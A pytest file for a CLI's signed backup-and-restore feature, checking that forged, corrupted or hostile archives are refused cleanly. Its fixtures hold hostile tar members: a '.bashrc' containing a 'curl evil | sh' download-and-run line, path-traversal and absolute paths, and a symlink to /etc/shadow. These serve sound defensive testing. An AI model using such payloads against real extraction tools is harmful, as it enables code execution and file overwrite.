"""Backups are signed with the operator's key; restore refuses anything it did not write, before writing a byte.

Every hostile archive here ends with exit 2, one clean ``archive:1: member: message`` line per problem,
no traceback, and an untouched repository.
"""

from __future__ import annotations

import contextlib
import hashlib
import hmac
import io
import json
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_fleet_support import project_fixture  # noqa: F401  (fixture "project")
from typer.testing import CliRunner, Result

from tenantctl.cli import app
from tenantctl.fleet.archive import FORMAT, MANIFEST, MAX_FILE_BYTES, SIGNATURE
from tenantctl.fleet.backup_key import KEY_ENV, KEY_FILE_ENV

KEY = "0123456789abcdef0123456789abcdef-operator-key"
OTHER_KEY = "fedcba9876543210fedcba9876543210-someone-else"


@pytest.fixture(autouse=True)
def operator_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(KEY_ENV, KEY)
    monkeypatch.delenv(KEY_FILE_ENV, raising=False)


def _mac(key: str, data: bytes) -> str:
    return hmac.new(key.encode(), data, hashlib.sha256).hexdigest()


def _key_id(key: str) -> str:
    return hmac.new(key.encode(), b"tenant-platform-backup key id", hashlib.sha256).hexdigest()[:16]


def _backup(project: Path, *extra: str) -> Path:
    result = CliRunner().invoke(app, ["backup", "--output", str(project / "bk"), *extra])
    assert result.exit_code == 0, result.stderr
    return Path(result.stdout.strip().splitlines()[-1])


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}  # type: ignore[union-attr]


def _write(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def _signed(path: Path, files: dict[str, bytes], key: str = KEY, manifest: object | None = None) -> Path:
    """An archive exactly as a backup writes it, signed with ``key`` (an attacker who has the key, or the operator)."""
    body = manifest or {
        "format": FORMAT,
        "created": "2026-12-01T00:00:00+00:00",
        "key_id": _key_id(key),
        "files": {n: {"sha256": hashlib.sha256(d).hexdigest(), "size": len(d)} for n, d in files.items()},
    }
    raw = (json.dumps(body) + "\n").encode()
    return _write(
        path, [_file(MANIFEST, raw), _file(SIGNATURE, _mac(key, raw).encode()), *(_file(n, d) for n, d in files.items())]
    )


FRESH: list[Path] = []


@pytest.fixture()
def fresh(tmp_path: Path) -> Iterator[Path]:
    """An empty checkout that restores run in (backups run in ``project``)."""
    folder = tmp_path / "fresh"
    folder.mkdir()
    (folder / "Pulumi.yaml").write_text("name: tenant-platform\n", encoding="utf-8")
    FRESH.append(folder)
    yield folder
    FRESH.remove(folder)


def _restore(archive: Path, *extra: str) -> Result:
    with contextlib.chdir(FRESH[-1]):
        return CliRunner().invoke(app, ["restore", str(archive), *extra])


def _refused(result: Result, fresh: Path, fragment: str) -> None:
    assert result.exit_code == 2, (result.exit_code, result.output, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.stderr + result.output
    assert fragment in result.stderr
    assert all(line.split(":1: ", 1)[0] and ":1: " in line for line in result.stderr.strip().splitlines()), result.stderr
    assert not (fresh / "tenants").exists() and not (fresh / "stacks").exists()


def test_round_trip_and_local_edits_need_force(project: Path, fresh: Path) -> None:
    archive = _backup(project)
    members = _members(archive)
    manifest = json.loads(members[MANIFEST])
    assert "tenants/hobby-free.yaml" in manifest["files"] and "stacks/Pulumi.hobby-free.yaml" in manifest["files"]
    assert set(manifest["files"]) == set(members) - {MANIFEST, SIGNATURE}
    assert members[SIGNATURE].decode().strip() == _mac(KEY, members[MANIFEST])
    assert manifest["key_id"] == _key_id(KEY)

    restored = _restore(archive)
    assert restored.exit_code == 0, restored.stderr
    for name in manifest["files"]:
        assert (fresh / name).read_bytes() == (project / name).read_bytes()
    (fresh / "tenants" / "hobby-free.yaml").write_text("edited\n", encoding="utf-8")
    refused = _restore(archive)
    assert refused.exit_code == 2 and "tenants/hobby-free.yaml: differs from the archive" in refused.stderr
    assert (fresh / "tenants" / "hobby-free.yaml").read_text(encoding="utf-8") == "edited\n"
    forced = _restore(archive, "--force")
    assert forced.exit_code == 0, forced.stderr
    assert (fresh / "tenants" / "hobby-free.yaml").read_bytes() == (project / "tenants" / "hobby-free.yaml").read_bytes()


def test_key_file_option(project: Path, fresh: Path, tmp_path: Path) -> None:
    key_file = tmp_path / "backup.key"
    key_file.write_text(OTHER_KEY + "\n", encoding="utf-8")
    archive = _backup(project, "--key-file", str(key_file))
    _refused(_restore(archive), fresh, "does not verify under the key from $TENANTCTL_BACKUP_KEY")
    assert _restore(archive, "--key-file", str(key_file)).exit_code == 0


@pytest.mark.parametrize("value", [None, "short-key"], ids=["none", "short"])
def test_backup_and_restore_need_a_real_key(project: Path, monkeypatch: pytest.MonkeyPatch, value: str | None) -> None:
    archive = _backup(project)
    if value is None:
        monkeypatch.delenv(KEY_ENV)
    else:
        monkeypatch.setenv(KEY_ENV, value)
    for args in (["backup", "--output", "bk2"], ["restore", str(archive), "--force"]):
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 2, result.output
        assert "backup key" in result.stderr and "at least 32 bytes" in result.stderr
    assert not (project / "bk2").exists()


def test_recomputed_manifest_does_not_restore_even_with_force(project: Path, fresh: Path, tmp_path: Path) -> None:
    members = _members(_backup(project))
    files = {n: d for n, d in members.items() if n not in (MANIFEST, SIGNATURE)}
    files["tenants/hobby-free.yaml"] = files["tenants/hobby-free.yaml"].replace(b"tier: free", b"tier: enterprise")
    # The attacker recomputes every sum and re-signs with a key of their own: the MAC does not verify under ours.
    forged = _signed(tmp_path / "forged.tar.gz", files, key=OTHER_KEY)
    _refused(_restore(forged, "--force"), fresh, f"{SIGNATURE}: the manifest's MAC does not verify")
    # Same edit keeping the original, genuinely signed manifest: the sha256 no longer matches.
    kept = _write(
        tmp_path / "kept.tar.gz",
        [_file(MANIFEST, members[MANIFEST]), _file(SIGNATURE, members[SIGNATURE]), *(_file(n, d) for n, d in files.items())],
    )
    _refused(_restore(kept, "--force"), fresh, "tenants/hobby-free.yaml: sha256 mismatch")


def test_unsigned_archive_of_the_old_format_is_refused(project: Path, fresh: Path, tmp_path: Path) -> None:
    data = b"tenant_id: x\n"
    manifest = json.dumps({"format": "tenant-platform-backup/1", "files": {"tenants/x.yaml": hashlib.sha256(data).hexdigest()}})
    old = _write(tmp_path / "old.tar.gz", [_file(MANIFEST, manifest.encode()), _file("tenants/x.yaml", data)])
    _refused(_restore(old), fresh, f"{SIGNATURE}: missing: not a signed tenant-platform backup")


def _special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info, None


HOSTILE_MEMBERS = {
    "hidden file": ([_file("tenants/.bashrc", b"curl evil | sh\n")], "'tenants/.bashrc': refusing a member"),
    "folder name as a file": ([_file("stacks", b"x")], "'stacks': refusing a member"),
    "dot-dot": ([_file("tenants/../../outside.yaml", b"x")], "refusing a member"),
    "absolute": ([_file("/etc/cron.d/evil", b"x")], "refusing a member"),
    "unknown folder": ([_file("policies/tenant_policies/base.py", b"x")], "refusing a member"),
    "wrong kind in stacks": ([_file("stacks/evil.sh", b"x")], "refusing a member"),
    "symlink": ([_special("tenants/a.yaml", tarfile.SYMTYPE, "/etc/shadow")], "refusing a link"),
    "hard link": ([_special("tenants/a.yaml", tarfile.LNKTYPE, "MANIFEST.json")], "refusing a link"),
    "device": ([_special("tenants/a.yaml", tarfile.CHRTYPE)], "refusing a special file"),
    "fifo": ([_special("tenants/a.yaml", tarfile.FIFOTYPE)], "refusing a special file"),
    "folder": ([_special("tenants/sub", tarfile.DIRTYPE)], "refusing a folder"),
    "duplicate": ([_file("tenants/a.yaml", b"a"), _file("tenants/a.yaml", b"b")], "'tenants/a.yaml': appears twice"),
    "oversized": ([_file("tenants/big.yaml", b"#" * (MAX_FILE_BYTES + 1))], "tenants/big.yaml: 1048577 bytes is over"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_MEMBERS), ids=str)
def test_hostile_members_are_refused(fresh: Path, tmp_path: Path, case: str) -> None:
    members, fragment = HOSTILE_MEMBERS[case]
    manifest = (json.dumps({"format": FORMAT, "created": "x", "key_id": _key_id(KEY), "files": {}}) + "\n").encode()
    archive = _write(tmp_path / "a.tar.gz", [_file(MANIFEST, manifest), _file(SIGNATURE, _mac(KEY, manifest).encode()), *members])
    _refused(_restore(archive, "--force"), fresh, fragment)


def test_a_300_mb_member_is_refused_from_its_header(fresh: Path, tmp_path: Path) -> None:
    info = tarfile.TarInfo("exports/big.json")
    info.size = 300 << 20
    raw = io.BytesIO()
    import gzip

    with gzip.GzipFile(fileobj=raw, mode="wb") as out:
        out.write(info.tobuf())  # the header only: refused before any data would be read
    archive = tmp_path / "big.tar.gz"
    archive.write_bytes(raw.getvalue())
    _refused(_restore(archive), fresh, "exports/big.json: 314572800 bytes is over the 67108864-byte limit")


def test_truncated_and_non_archives(project: Path, fresh: Path, tmp_path: Path) -> None:
    whole = _backup(project).read_bytes()
    cases = {
        "truncated.tar.gz": whole[: len(whole) // 2],
        "empty.tar.gz": b"",
        "text.tar.gz": b"this is not an archive\n",
        "plain.tar": b"\0" * 1024,
    }
    for name, data in cases.items():
        (tmp_path / name).write_bytes(data)
        _refused(_restore(tmp_path / name, "--force"), fresh, "archive: ")
    _refused(_restore(tmp_path / "missing.tar.gz"), fresh, "archive: cannot read")
    _refused(_restore(tmp_path), fresh, "archive: not a regular file")


def test_signed_but_malformed_content_is_refused(fresh: Path, tmp_path: Path) -> None:
    tenant = b"tenant_id: x\n"
    not_json = _signed(tmp_path / "export.tar.gz", {"tenants/x.yaml": tenant, "exports/x.json": b"{not json"})
    _refused(_restore(not_json), fresh, "exports/x.json: not a JSON stack export")
    deep = _signed(tmp_path / "deep.tar.gz", {"exports/x.json": b"[" * 100_000 + b"]" * 100_000})
    _refused(_restore(deep), fresh, "exports/x.json: not a JSON stack export")
    not_state = _signed(tmp_path / "state.tar.gz", {"exports/x.json": b"[1, 2]"})
    _refused(_restore(not_state), fresh, "exports/x.json: not a stack export")
    wrong_shape = _signed(tmp_path / "shape.tar.gz", {"tenants/x.yaml": tenant}, manifest={"files": ["tenants/x.yaml"]})
    _refused(_restore(wrong_shape), fresh, f"{MANIFEST}: ")
    unlisted = _signed(
        tmp_path / "unlisted.tar.gz",
        {"tenants/x.yaml": tenant},
        manifest={
            "format": FORMAT,
            "created": "x",
            "key_id": _key_id(KEY),
            "files": {},
        },
    )
    _refused(_restore(unlisted), fresh, "tenants/x.yaml: not listed in the manifest")
    missing = _signed(
        tmp_path / "missing.tar.gz",
        {},
        manifest={
            "format": FORMAT,
            "created": "x",
            "key_id": _key_id(KEY),
            "files": {"tenants/x.yaml": {"sha256": hashlib.sha256(tenant).hexdigest(), "size": len(tenant)}},
        },
    )
    _refused(_restore(missing), fresh, "tenants/x.yaml: listed in the manifest, missing from the archive")


def test_backup_never_follows_a_symlink_out_of_the_repository(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret\n", encoding="utf-8")
    (project / "tenants" / "evil.yaml").symlink_to(secret)
    (project / "tenants" / "linked").symlink_to(tmp_path)
    result = CliRunner().invoke(app, ["backup", "--output", str(project / "bk")])
    assert result.exit_code == 0, result.stderr
    members = _members(Path(result.stdout.strip().splitlines()[-1]))
    assert "tenants/evil.yaml" not in members and not any(n.startswith("tenants/linked") for n in members)
    assert all(b"$6$secret" not in data for data in members.values())
    assert "tenants/evil.yaml: not a regular file" in result.stderr
    assert "tenants/linked: symlinked folder not included" in result.stderr


def test_restore_never_writes_through_a_symlink(project: Path, fresh: Path, tmp_path: Path) -> None:
    archive = _backup(project)
    outside = tmp_path / "outside"
    outside.mkdir()
    (fresh / "tenants").symlink_to(outside)
    result = _restore(archive, "--force")
    assert result.exit_code == 2 and "tenants is a symlink in the repository" in result.stderr
    assert list(outside.iterdir()) == [] and not (fresh / "stacks").exists()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_corruption_of_a_signed_archive_is_exit_2_or_identical(project: Path, tmp_path: Path, data: st.DataObject) -> None:
    archive = _backup(project)
    raw = bytearray(archive.read_bytes())
    for _ in range(data.draw(st.integers(1, 4), label="edits")):
        position = data.draw(st.integers(0, 1 << 20), label="position") % len(raw)
        raw[position] = data.draw(st.integers(0, 255), label="byte")
    truncate = data.draw(st.booleans(), label="truncate")
    cut = 1 + data.draw(st.integers(0, 1 << 20), label="cut") % len(raw) if truncate else len(raw)
    target = tmp_path / "fuzzed.tar.gz"
    target.write_bytes(bytes(raw[:cut]))
    result = CliRunner().invoke(app, ["restore", str(target), "--force"])
    assert result.exit_code in (0, 2), (result.exit_code, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    if result.exit_code == 0:  # only possible when the bytes still verify: then they are the operator's own files
        for name in json.loads(_members(target)[MANIFEST])["files"]:
            if not name.startswith("exports/"):
                assert (project / name).read_bytes() == _members(target)[name]
